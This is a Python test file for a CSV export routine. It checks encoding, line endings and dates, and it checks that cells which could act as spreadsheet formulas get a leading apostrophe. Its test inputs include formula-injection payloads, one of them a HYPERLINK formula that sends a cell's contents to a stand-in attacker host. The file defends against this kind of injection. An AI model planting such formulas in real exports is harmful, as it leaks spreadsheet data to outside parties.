"""CSV as spreadsheets read it: cells that would act are tamed, Japanese stays Japanese."""

import csv
import io
from datetime import date

import pytest

from koubo.kernel.spreadsheets import written


def test_a_file_opens_as_utf_8_with_crlf_and_iso_days() -> None:
    made = written([("データ番号", "日付"), ("D126110001", date(2026, 11, 24)), ("件数", 12), ("", None)])
    assert made == "\ufeffデータ番号,日付\r\nD126110001,2026-11-24\r\n件数,12\r\n,\r\n".encode()


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "＝1+1", "＠SUM(A1)", "\0=1",
        '=HYPERLINK("https://evil.example/?"&A1,"公募")',
    ],
)  # fmt: skip
def test_a_cell_that_would_act_is_a_text(text: str) -> None:
    assert read(written([(text,)])) == [[f"'{text}".replace("\0", "")]]


@pytest.mark.parametrize("text", ["公募, 教授", 'the "best"', "一行目\n二行目", "a=b", "助教（-）", "'quoted"])
def test_other_cells_come_back_as_they_were(text: str) -> None:
    assert read(written([(text,)])) == [[text]]


def test_a_negative_number_is_a_number() -> None:
    assert read(written([(-5,)])) == [["-5"]]


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
